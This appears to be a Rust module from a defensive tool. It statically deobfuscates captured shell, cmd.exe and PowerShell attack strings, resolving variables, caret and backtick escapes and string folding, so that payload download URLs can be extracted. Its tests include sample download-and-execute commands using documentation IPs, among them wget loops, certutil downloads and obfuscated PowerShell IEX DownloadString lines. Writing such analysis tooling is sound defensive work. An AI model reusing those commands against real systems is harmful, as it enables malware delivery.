//! Extraction: strings the attack builds at run time, evaluated as far as they are literal in
//! the attack string (the C download plugins read only what was written out).
//!
//! * Shell: `u=http://…; wget $u/x; curl ${u}/y` (also `export`, `local`, `readonly`, quoted
//!   values), and `for a in arm mips; do wget $u/$a; done` over a literal list.
//! * cmd.exe: `set u=…` (also `set "u=…"`) and `%u%`; caret escapes (`w^g^e^t`).
//! * PowerShell: `$u = …` and `$u`, string concatenation with `+`, `-join`, the format
//!   operator `-f`, `[char]N` and `[char[]](N,…)`, backtick escapes.
//!
//! Nothing that depends on the target is evaluated: a variable the attack does not assign
//! (`$HOME`, `%TEMP%`, `$env:TEMP`) stays as written, as does every command substitution.
//! The result is a new text, scanned like a decoded body, when anything was replaced. Caps:
//! [`MAX_VARS`] variables of at most [`MAX_VALUE`] bytes, [`MAX_ITEMS`] loop items,
//! [`MAX_OUTPUT`] bytes of output, [`MAX_STEPS`] substitutions and reductions per text;
//! PowerShell expressions are folded in commands of at most [`MAX_FOLD`] bytes.

use super::*;

/// Variables remembered per text.
pub const MAX_VARS: usize = 64;
/// Longer values are not remembered.
pub const MAX_VALUE: usize = 4096;
/// Items of a `for` list followed.
pub const MAX_ITEMS: usize = 16;
/// The evaluated text stops growing here.
pub const MAX_OUTPUT: usize = 256 << 10;
/// Substitutions and expression reductions per text.
pub const MAX_STEPS: usize = 1 << 16;
/// Longer commands are not folded as PowerShell expressions.
pub const MAX_FOLD: usize = 16 << 10;

struct Var {
    /// Lower case: PowerShell and cmd.exe names ignore case.
    name: Vec<u8>,
    value: Vec<u8>,
    /// Assigned by PowerShell: substituted as a quoted string outside double quotes, so
    /// that `$a + 'b'` folds.
    ps: bool,
}

struct Eval {
    vars: Vec<Var>,
    out: Vec<u8>,
    steps: usize,
    changed: bool,
    powershell: bool,
    /// Where the command being evaluated starts in the text, and where the first one that
    /// changed does.
    at: usize,
    first: Option<usize>,
}

/// The text with what it builds evaluated, when that changed anything, and where in `t` the
/// first change is.
pub(super) fn expand(t: &[u8]) -> Option<(Vec<u8>, usize)> {
    let powershell =
        [&b"powershell"[..], b"pwsh", b"iex", b"invoke-", b"new-object", b"webclient", b"[char]", b"-join"]
            .iter()
            .any(|k| contains_ci(t, k));
    if !powershell && !t.iter().any(|&c| matches!(c, b'$' | b'%' | b'^')) {
        return None;
    }
    let mut changed = false;
    let mut text = t.to_vec();
    if text.contains(&b'^') && contains_ci(&text, b"cmd") {
        text = uncaret(&text);
        changed |= text.len() != t.len();
    }
    if powershell && text.contains(&b'`') {
        let before = text.len();
        text = unbacktick(&text);
        changed |= text.len() != before;
    }
    let first = changed.then_some(0);
    let mut ev =
        Eval { vars: Vec::new(), out: Vec::with_capacity(text.len()), steps: 0, changed, powershell, at: 0, first };
    ev.run(&text, 0);
    ev.changed.then(|| (ev.out, ev.first.unwrap_or(0).min(t.len())))
}

/// cmd.exe's caret escapes: `^x` is `x`.
fn uncaret(t: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(t.len());
    let mut i = 0;
    while i < t.len() {
        if t[i] == b'^' && i + 1 < t.len() && t[i + 1] != b'\n' {
            out.push(t[i + 1]);
            i += 2;
        } else {
            out.push(t[i]);
            i += 1;
        }
    }
    out
}

/// PowerShell's backtick before a letter (`` Ne`w-Ob`je`ct ``): the letter itself, except
/// for the escapes of double-quoted strings (`` "`n" ``).
fn unbacktick(t: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(t.len());
    let mut dq = false;
    for (i, &c) in t.iter().enumerate() {
        let next = t.get(i + 1).copied().unwrap_or(0);
        if c == b'"' {
            dq = !dq;
        }
        if c == b'`'
            && (next.is_ascii_alphanumeric() || next == b'-' || next == b'.')
            && !(dq && b"0abefnrtv".contains(&next))
        {
            continue;
        }
        out.push(c);
    }
    out
}

fn is_name_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_'
}

fn is_name(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// Where the command starting at `from` ends: a separator outside quotes, or a line end.
fn segment_end(t: &[u8], from: usize) -> usize {
    let mut quote = 0u8;
    for (i, &c) in t.iter().enumerate().skip(from) {
        if c == b'\n' {
            return i;
        }
        if quote != 0 {
            if c == quote {
                quote = 0;
            }
        } else if c == b'\'' || c == b'"' {
            // A quote with no partner on the line does not open a string.
            if t[i + 1..].iter().find(|&&x| x == c || x == b'\n') == Some(&c) {
                quote = c;
            }
        } else if matches!(c, b';' | b'&' | b'|' | b'\r') {
            return i;
        }
    }
    t.len()
}

fn trim(s: &[u8]) -> &[u8] {
    let a = s.iter().position(|c| !c.is_ascii_whitespace()).unwrap_or(s.len());
    let b = s.iter().rposition(|c| !c.is_ascii_whitespace()).map_or(a, |k| k + 1);
    &s[a..b]
}

/// The value of a shell word: quotes removed.
fn unquote(w: &[u8]) -> Vec<u8> {
    w.iter().copied().filter(|&c| c != b'\'' && c != b'"').collect()
}

impl Eval {
    fn mark(&mut self) {
        self.changed = true;
        self.first.get_or_insert(self.at);
    }

    fn full(&self) -> bool {
        self.out.len() >= MAX_OUTPUT || self.steps >= MAX_STEPS
    }

    fn lookup(&self, name: &[u8]) -> Option<&Var> {
        let l = lower(name);
        self.vars.iter().rev().find(|v| v.name == l)
    }

    fn set(&mut self, name: &[u8], value: Vec<u8>, ps: bool) {
        if value.len() > MAX_VALUE || name.is_empty() {
            return;
        }
        let l = lower(name);
        if let Some(v) = self.vars.iter_mut().find(|v| v.name == l) {
            v.value = value;
            v.ps = ps;
        } else if self.vars.len() < MAX_VARS {
            self.vars.push(Var { name: l, value, ps });
        }
    }

    fn run(&mut self, t: &[u8], depth: usize) {
        let mut i = 0;
        while i < t.len() {
            if self.full() {
                self.out.extend_from_slice(&t[i..t.len().min(i + MAX_OUTPUT.saturating_sub(self.out.len()))]);
                return;
            }
            let end = segment_end(t, i);
            let seg = &t[i..end];
            if depth == 0 {
                self.at = i;
            }
            if depth < 2 {
                if let Some(after) = self.for_loop(t, i, end, depth) {
                    i = after;
                    continue;
                }
            }
            let mut sub = self.substitute(seg);
            if self.powershell && sub.len() <= MAX_FOLD {
                if let Some(f) = self.fold(&sub) {
                    sub = f;
                }
            }
            self.assignment(&sub);
            self.out.extend_from_slice(&sub);
            if end < t.len() {
                self.out.push(t[end]);
            }
            i = end + 1;
        }
    }

    /// `for NAME in LIST; do BODY; done` starting at the command `i..end`: the body once per
    /// item, and the index after `done`.
    fn for_loop(&mut self, t: &[u8], i: usize, end: usize, depth: usize) -> Option<usize> {
        let seg = trim(&t[i..end]);
        let rest = seg.strip_prefix(b"for ")?;
        let mut words = rest.split(|c| c.is_ascii_whitespace()).filter(|w| !w.is_empty());
        let name = words.next()?;
        if !name.iter().all(|&c| is_name(c)) || words.next()? != b"in" {
            return None;
        }
        let items: Vec<Vec<u8>> = words.take(MAX_ITEMS).map(|w| unquote(&self.substitute(w))).collect();
        // `do` opens the body: the next command, or after a line end.
        let mut j = end + 1;
        while t.get(j).is_some_and(|c| c.is_ascii_whitespace()) {
            j += 1;
        }
        if !starts_ci(t, j, b"do") || t.get(j + 2).is_some_and(|&c| is_name(c)) {
            return None;
        }
        let body_start = j + 2;
        let window = &t[body_start..t.len().min(body_start + MAX_FOLD)];
        let k = window.windows(4).position(|w| w == b"done")?;
        let body = &t[body_start..body_start + k];
        let done_end = body_start + k + 4;
        for item in items {
            if self.full() {
                break;
            }
            self.set(name, item, false);
            self.steps += 1;
            self.mark();
            self.run(body, depth + 1);
            self.out.push(b';');
        }
        Some(done_end)
    }

    /// `$x`, `${x}`, `%x%` of the variables assigned so far replaced by their values.
    fn substitute(&mut self, seg: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(seg.len());
        let (mut sq, mut dq) = (false, false);
        let mut i = 0;
        while i < seg.len() {
            let c = seg[i];
            match c {
                b'\'' if !dq => sq = !sq,
                b'"' if !sq => dq = !dq,
                b'$' if !sq || self.powershell && dq => {
                    let (name, next) = if seg.get(i + 1) == Some(&b'{') {
                        let close = seg[i + 2..].iter().take(64).position(|&c| c == b'}').map(|k| i + 2 + k);
                        match close {
                            Some(k) => (&seg[i + 2..k], k + 1),
                            None => (&seg[..0], i + 1),
                        }
                    } else {
                        let k = seg[i + 1..].iter().position(|&c| !is_name(c)).map_or(seg.len(), |k| i + 1 + k);
                        (&seg[i + 1..k], k)
                    };
                    // `$env:X` and the like belong to the target; `$x = …` assigns.
                    let scoped = seg.get(next) == Some(&b':') && seg.get(next + 1).is_some_and(|&c| is_name(c));
                    let eq = seg[next.min(seg.len())..].iter().position(|&c| c != b' ').map_or(seg.len(), |k| next + k);
                    let assigned = seg.get(eq) == Some(&b'=') && seg.get(eq + 1) != Some(&b'=');
                    if !name.is_empty() && is_name_start(name[0]) && !scoped && !assigned && self.steps < MAX_STEPS {
                        if let Some(v) = self.lookup(name) {
                            if v.ps && !dq {
                                out.push(b'\'');
                                for &b in &v.value {
                                    out.push(b);
                                    if b == b'\'' {
                                        out.push(b'\'');
                                    }
                                }
                                out.push(b'\'');
                            } else {
                                out.extend_from_slice(&v.value);
                            }
                            self.steps += 1;
                            self.mark();
                            i = next;
                            continue;
                        }
                    }
                }
                b'%' => {
                    let k = seg[i + 1..].iter().take(64).position(|&c| c == b'%').map(|k| i + 1 + k);
                    if let Some(k) = k {
                        let name = &seg[i + 1..k];
                        if !name.is_empty() && name.iter().all(|&c| is_name(c)) && self.steps < MAX_STEPS {
                            if let Some(v) = self.lookup(name).filter(|v| !v.ps) {
                                out.extend_from_slice(&v.value);
                                self.steps += 1;
                                self.mark();
                                i = k + 1;
                                continue;
                            }
                        }
                    }
                }
                _ => {}
            }
            out.push(c);
            i += 1;
        }
        out
    }

    /// Remembers the variable a command assigns.
    fn assignment(&mut self, seg: &[u8]) {
        let s = trim(seg);
        // PowerShell: `$name = expression` (after the program's words, if any).
        let dollar = s.iter().position(|&c| c == b'$').filter(|&k| k == 0 || (self.powershell && s[k - 1] == b' '));
        if let Some(rest) = dollar.map(|k| &s[k + 1..]) {
            let k = rest.iter().position(|&c| !is_name(c)).unwrap_or(rest.len());
            let after = trim(&rest[k..]);
            if k > 0 && after.starts_with(b"=") && !after.starts_with(b"==") {
                if let Some(v) = ps_literal(trim(&after[1..])) {
                    self.set(&rest[..k], v, true);
                }
            }
            return;
        }
        // cmd.exe: `set name=value`, `set "name=value"` (also after `cmd /c`).
        let mut s = s;
        if starts_ci(s, 0, b"cmd") {
            let mut words = s.splitn(3, |&c| c == b' ');
            if let (Some(_), Some(opt), Some(rest)) = (words.next(), words.next(), words.next()) {
                if opt.starts_with(b"/") {
                    s = trim(rest);
                }
            }
        }
        if starts_ci(s, 0, b"set ") {
            let body = trim(&s[4..]);
            let (body, quoted) = match body.strip_prefix(b"\"") {
                Some(b) => (b.strip_suffix(b"\"").unwrap_or(b), true),
                None => (body, false),
            };
            if let Some(eq) = body.iter().position(|&c| c == b'=') {
                let name = &body[..eq];
                if !name.is_empty() && name.iter().all(|&c| is_name(c)) {
                    let v = if quoted { body[eq + 1..].to_vec() } else { trim(&body[eq + 1..]).to_vec() };
                    self.set(name, v, false);
                }
            }
            return;
        }
        // Shell: `[export|local|readonly] name=value …`.
        let mut rest = s;
        for kw in [&b"export "[..], b"local ", b"readonly ", b"declare "] {
            if let Some(r) = rest.strip_prefix(kw) {
                rest = trim(r);
            }
        }
        for w in shell_words(rest) {
            let Some(eq) = w.iter().position(|&c| c == b'=') else { return };
            let name = &w[..eq];
            if name.is_empty() || !is_name_start(name[0]) || !name.iter().all(|&c| is_name(c)) {
                return;
            }
            self.set(name, unquote(&w[eq + 1..]), false);
        }
    }

    /// PowerShell expressions of literals folded into one literal: `'a'+'b'`, `-join`, `-f`,
    /// `[char]N`, `[char[]](N,…)`, grouping parentheses. `None` when nothing folded.
    fn fold(&mut self, seg: &[u8]) -> Option<Vec<u8>> {
        let mut toks = ps_tokens(seg);
        let mut folded = false;
        let mut i = 0;
        while i < toks.len() && self.steps < MAX_STEPS {
            self.steps += 1;
            if let Some((n, v)) = reduce(&toks[i..], i.checked_sub(1).map(|p| &toks[p]), seg) {
                let (a, b) = (toks[i].a, toks[i + n - 1].b);
                toks.splice(i..i + n, [Tok { k: K::Lit(v), a, b, new: true }]);
                folded = true;
                i = i.saturating_sub(6);
                continue;
            }
            // A list that folds into nothing is passed whole (linear in its length).
            i += lit_list(&toks[i..]).1.max(1);
        }
        if !folded {
            return None;
        }
        self.mark();
        let mut out = Vec::with_capacity(seg.len());
        let mut at = 0;
        for t in &toks {
            out.extend_from_slice(&seg[at..t.a]);
            match &t.k {
                K::Lit(v) if t.new => {
                    out.push(b'\'');
                    for &b in v {
                        out.push(b);
                        if b == b'\'' {
                            out.push(b'\'');
                        }
                    }
                    out.push(b'\'');
                }
                _ => out.extend_from_slice(&seg[t.a..t.b]),
            }
            at = t.b;
        }
        out.extend_from_slice(&seg[at..]);
        Some(out)
    }
}

/// Shell words: split at blanks outside quotes.
fn shell_words(s: &[u8]) -> Vec<&[u8]> {
    let mut words = Vec::new();
    let (mut start, mut quote) = (None, 0u8);
    for (i, &c) in s.iter().enumerate() {
        if quote != 0 {
            if c == quote {
                quote = 0;
            }
            continue;
        }
        match c {
            b' ' | b'\t' => {
                if let Some(a) = start.take() {
                    words.push(&s[a..i]);
                }
            }
            _ => {
                if c == b'\'' || c == b'"' {
                    quote = c;
                }
                start.get_or_insert(i);
            }
        }
    }
    if let Some(a) = start {
        words.push(&s[a..]);
    }
    words
}

/// The value of `expr` when it is one PowerShell string literal (after folding).
fn ps_literal(expr: &[u8]) -> Option<Vec<u8>> {
    let toks = ps_tokens(expr);
    match &toks[..] {
        [Tok { k: K::Lit(v), .. }] => Some(v.clone()),
        _ => None,
    }
}

#[derive(Clone, PartialEq, Debug)]
enum K {
    Lit(Vec<u8>),
    Num(u32),
    Plus,
    Comma,
    Open,
    Close,
    Join,
    Format,
    Char,
    CharArray,
    Other,
}

#[derive(Clone, Debug)]
struct Tok {
    k: K,
    a: usize,
    b: usize,
    /// Made by folding (written out anew).
    new: bool,
}

fn ps_tokens(s: &[u8]) -> Vec<Tok> {
    let mut toks = Vec::new();
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let a = i;
        let k = match c {
            b'\'' | b'"' => match ps_string(s, i) {
                Some((v, end)) => {
                    i = end;
                    K::Lit(v)
                }
                None => {
                    i += 1;
                    K::Other
                }
            },
            b'+' | b',' | b'(' | b')' => {
                i += 1;
                match c {
                    b'+' => K::Plus,
                    b',' => K::Comma,
                    b'(' => K::Open,
                    _ => K::Close,
                }
            }
            b'-' if starts_ci(s, i, b"-join") && !s.get(i + 5).is_some_and(|&c| is_name(c)) => {
                i += 5;
                K::Join
            }
            b'-' if starts_ci(s, i, b"-f") && !s.get(i + 2).is_some_and(|&c| is_name(c)) => {
                i += 2;
                K::Format
            }
            b'[' if starts_ci(s, i, b"[char[]]") => {
                i += 8;
                K::CharArray
            }
            b'[' if starts_ci(s, i, b"[char]") => {
                i += 6;
                K::Char
            }
            b'[' if starts_ci(s, i, b"[string]") => {
                i += 8;
                continue;
            }
            b'0'..=b'9' => {
                let hexa = starts_ci(s, i, b"0x");
                let from = if hexa { i + 2 } else { i };
                let k = s[from..].iter().position(|c| !c.is_ascii_hexdigit()).map_or(s.len(), |k| from + k);
                let digits = std::str::from_utf8(&s[from..k]).unwrap_or("");
                let v = if hexa { u32::from_str_radix(digits, 16).ok() } else { digits.parse().ok() };
                i = k.max(i + 1);
                match v {
                    Some(v) if !s.get(k).is_some_and(|&c| is_name(c) || c == b'.') => K::Num(v),
                    _ => K::Other,
                }
            }
            _ => {
                i += 1;
                while i < s.len() && !s[i].is_ascii_whitespace() && !b"'\"+,()[=".contains(&s[i]) {
                    i += 1;
                }
                K::Other
            }
        };
        toks.push(Tok { k, a, b: i, new: false });
    }
    toks
}

/// A PowerShell string at `i`: `'…'` (`''` a quote) or `"…"` without variables (`""` and
/// backtick escapes). Its value and the index after it.
fn ps_string(s: &[u8], i: usize) -> Option<(Vec<u8>, usize)> {
    let q = s[i];
    let mut v = Vec::new();
    let mut j = i + 1;
    while j < s.len() {
        let c = s[j];
        if c == q {
            if s.get(j + 1) == Some(&q) {
                v.push(q);
                j += 2;
                continue;
            }
            return Some((v, j + 1));
        }
        if q == b'"' {
            if c == b'$' {
                return None;
            }
            if c == b'`' {
                let e = *s.get(j + 1)?;
                v.push(match e {
                    b'n' => b'\n',
                    b'r' => b'\r',
                    b't' => b'\t',
                    b'0' => 0,
                    e => e,
                });
                j += 2;
                continue;
            }
        }
        v.push(c);
        j += 1;
    }
    None
}

fn lit(t: &Tok) -> Option<&[u8]> {
    match &t.k {
        K::Lit(v) => Some(v),
        _ => None,
    }
}

/// A list `Lit (, Lit)*` at the start of `t`: the values and the tokens it takes.
fn lit_list(t: &[Tok]) -> (Vec<&[u8]>, usize) {
    let mut vals = Vec::new();
    let mut n = 0;
    while let Some(v) = t.get(n).and_then(lit) {
        vals.push(v);
        n += 1;
        if t.get(n).map(|t| &t.k) != Some(&K::Comma) || t.get(n + 1).and_then(lit).is_none() {
            break;
        }
        n += 1;
    }
    (vals, n)
}

fn char_of(n: u32) -> Option<u8> {
    u8::try_from(n).ok().filter(|c| (0x20..0x7f).contains(c) || matches!(c, b'\n' | b'\r' | b'\t'))
}

/// One folding step at the start of `t` (`prev` the token before it): how many tokens become
/// which literal.
fn reduce(t: &[Tok], prev: Option<&Tok>, seg: &[u8]) -> Option<(usize, Vec<u8>)> {
    let k = |n: usize| t.get(n).map(|t| &t.k);
    match &t[0].k {
        K::Char => {
            if let Some(K::Num(n)) = k(1) {
                return Some((2, vec![char_of(*n)?]));
            }
            None
        }
        K::CharArray => {
            // [char[]](N, N, …) -join SEP → handled as a list of one-character literals.
            if k(1) != Some(&K::Open) {
                return None;
            }
            let mut chars = Vec::new();
            let mut n = 2;
            while let Some(K::Num(v)) = k(n) {
                chars.push(char_of(*v)?);
                n += 1;
                match k(n) {
                    Some(K::Comma) => n += 1,
                    Some(K::Close) => {
                        // Joined with `-join SEP` or `-join ''` after it; alone, the characters.
                        if k(n + 1) == Some(&K::Join) {
                            let sep = t.get(n + 2).and_then(lit)?;
                            let parts: Vec<[u8; 1]> = chars.iter().map(|&c| [c]).collect();
                            return Some((n + 3, parts.join(sep)));
                        }
                        return Some((n + 1, chars));
                    }
                    _ => return None,
                }
            }
            None
        }
        K::Lit(a) => {
            // 'a' + 'b'
            if k(1) == Some(&K::Plus) {
                if let Some(b) = t.get(2).and_then(lit) {
                    let mut v = a.clone();
                    v.extend_from_slice(b);
                    return Some((3, v));
                }
            }
            // 'fmt' -f 'a', 'b'  /  'fmt' -f ('a', 'b')
            if k(1) == Some(&K::Format) {
                let (open, from) = if k(2) == Some(&K::Open) { (1, 3) } else { (0, 2) };
                let (args, n) = lit_list(&t[from..]);
                if n == 0 || (open == 1 && k(from + n) != Some(&K::Close)) {
                    return None;
                }
                return Some((from + n + open, format(a, &args)?));
            }
            // 'a', 'b' -join 'sep'
            let (vals, n) = lit_list(t);
            if n > 1 && k(n) == Some(&K::Join) {
                let sep = t.get(n + 1).and_then(lit)?;
                return Some((n + 2, vals.join(sep)));
            }
            None
        }
        K::Open => {
            let (vals, n) = lit_list(&t[1..]);
            if n == 0 || k(n + 1) != Some(&K::Close) {
                return None;
            }
            // ('a', 'b') -join 'sep'
            if k(n + 2) == Some(&K::Join) {
                if let Some(sep) = t.get(n + 3).and_then(lit) {
                    return Some((n + 4, vals.join(sep)));
                }
            }
            // ('a') grouping, not a call's parentheses.
            let call = prev.is_some_and(|p| {
                p.b == t[0].a && p.k == K::Other && seg[p.a..p.b].iter().all(|&c| is_name(c) || c == b'.')
            });
            if vals.len() == 1 && !call {
                return Some((3, vals[0].to_vec()));
            }
            None
        }
        K::Join => {
            // -join ('a', 'b')
            if k(1) != Some(&K::Open) {
                return None;
            }
            let (vals, n) = lit_list(&t[2..]);
            (n > 0 && k(n + 2) == Some(&K::Close)).then(|| (n + 3, vals.concat()))
        }
        _ => None,
    }
}

/// `'{0}{1}' -f 'a', 'b'`.
fn format(fmt: &[u8], args: &[&[u8]]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < fmt.len() {
        match fmt[i] {
            b'{' if fmt.get(i + 1) == Some(&b'{') => {
                out.push(b'{');
                i += 2;
            }
            b'}' if fmt.get(i + 1) == Some(&b'}') => {
                out.push(b'}');
                i += 2;
            }
            b'{' => {
                let close = fmt[i..].iter().position(|&c| c == b'}')? + i;
                let spec = &fmt[i + 1..close];
                let digits = spec.split(|&c| c == b',' || c == b':').next()?;
                let n: usize = std::str::from_utf8(digits).ok()?.trim().parse().ok()?;
                out.extend_from_slice(args.get(n)?);
                i = close + 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
        if out.len() > MAX_VALUE {
            return None;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::super::{extract, summary};
    use super::*;

    fn expanded(t: &str) -> Option<String> {
        expand(t.as_bytes()).map(|(v, _)| String::from_utf8_lossy(&v).into_owned())
    }

    fn check(attack: &str, want: &[&str]) {
        let got: Vec<String> = extract(attack.as_bytes()).iter().map(summary).collect();
        assert_eq!(got, want, "attack: {attack:?}");
    }

    #[test]
    fn shell_variables_and_loops() {
        assert_eq!(
            expanded("u=http://a; wget $u/x; curl ${u}/y").unwrap(),
            "u=http://a; wget http://a/x; curl http://a/y"
        );
        assert_eq!(expanded("export H='h' P=\"8\"; x $H:$P").unwrap(), "export H='h' P=\"8\"; x h:8");
        assert_eq!(expanded("for a in x y; do get $a; done").unwrap(), " get x; ; get y; ;");
        // What the attack does not assign belongs to the target; single quotes do not expand.
        assert_eq!(expanded("wget $HOME/x; echo '$u'"), None);
        assert_eq!(expanded("u=a; echo '$u'"), None);
        check(
            "u=http://192.0.2.80; wget $u/x; curl ${u}/y",
            &["http 192.0.2.80 - - - / index.html", "http 192.0.2.80 - - - /x x", "http 192.0.2.80 - - - /y y"],
        );
        check(
            "U=http://192.0.2.81/b; for a in arm mips; do wget $U.$a -O /tmp/$a; done",
            &["http 192.0.2.81 - - - /b b", "http 192.0.2.81 - - - /b.arm arm", "http 192.0.2.81 - - - /b.mips mips"],
        );
    }

    #[test]
    fn cmd_variables_and_carets() {
        assert_eq!(expanded("cmd /c w^g^e^t x").unwrap(), "cmd /c wget x");
        assert_eq!(expanded("set \"u=a b\"& echo %u%; %TEMP%").unwrap(), "set \"u=a b\"& echo a b; %TEMP%");
        check(
            "cmd /c \"set u=http://192.0.2.82/c.exe&& certutil -urlcache -f %u% c2.exe\"",
            &["http 192.0.2.82 - - - /c.exe c2.exe"],
        );
    }

    #[test]
    fn powershell_expressions() {
        let e = |t: &str| expanded(&format!("powershell {t}")).map(|s| s["powershell ".len()..].to_string());
        assert_eq!(e("$a='x'+'y'+\"z\"").unwrap(), "$a='xyz'");
        assert_eq!(e("('a','b','c') -join '-'").unwrap(), "'a-b-c'");
        assert_eq!(e("-join ('a','b')").unwrap(), "'ab'");
        assert_eq!(e("'{1}{0}{{}}' -f 'a','b'").unwrap(), "'ba{}'");
        assert_eq!(e("[char]104+[char]0x69").unwrap(), "'hi'");
        assert_eq!(e("[char[]](104,105) -join ''").unwrap(), "'hi'");
        assert_eq!(e("Ne`w-Obj`ect").unwrap(), "New-Object");
        assert_eq!(e("$h='a'; $u=\"x$h\"; $u+'b'").unwrap(), "$h='a'; $u=\"xa\"; 'xab'");
        // Calls keep their parentheses; unknown variables and `$env:` stay.
        assert_eq!(e(".DownloadString('u')"), None);
        assert_eq!(e("$env:TEMP + 'x'"), None);
        check(
            "powershell -c \"$h='192.0.2.83'; $u='http://'+$h+'/e.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)\"",
            &["http 192.0.2.83 - - - /e.ps1 e.ps1"],
        );
        check(
            "powershell -c \"$x=[char[]](104,116,116,112,58,47,47) -join ''; i`wr ($x+'192.0.2.84/h.exe') -OutFile h2.exe\"",
            &["http 192.0.2.84 - - - /h.exe h2.exe"],
        );
    }

    #[test]
    fn bounded() {
        // Many variables, long values, long lists, deep folding: capped, and quick.
        let mut t = String::new();
        for i in 0..200 {
            t.push_str(&format!("v{i}={}; ", "x".repeat(i * 10)));
        }
        t.push_str("for a in ");
        t.push_str(&"a ".repeat(1000));
        t.push_str("; do echo $v1 $v2 $v3 $a; done; ");
        let (v, _) = expand(t.as_bytes()).expect("expanded");
        assert!(v.len() <= MAX_OUTPUT + t.len());
        let list = format!("powershell {} -join ''", vec!["'a'"; 3000].join(","));
        let got = expand(list.as_bytes()).unwrap().0;
        assert!(got.len() < list.len());
        let plus = format!("powershell {}", vec!["'a'"; 3000].join("+"));
        let t0 = std::time::Instant::now();
        assert!(expand(plus.as_bytes()).is_some());
        assert!(t0.elapsed() < std::time::Duration::from_secs(20));
        let doubling = (0..40).map(|i| format!("a{}=$a{i}$a{i}; ", i + 1)).collect::<String>();
        let got = expand(format!("a0=xx; {doubling}").as_bytes()).unwrap().0;
        assert!(got.len() <= MAX_OUTPUT + MAX_VALUE * 2);
    }
}
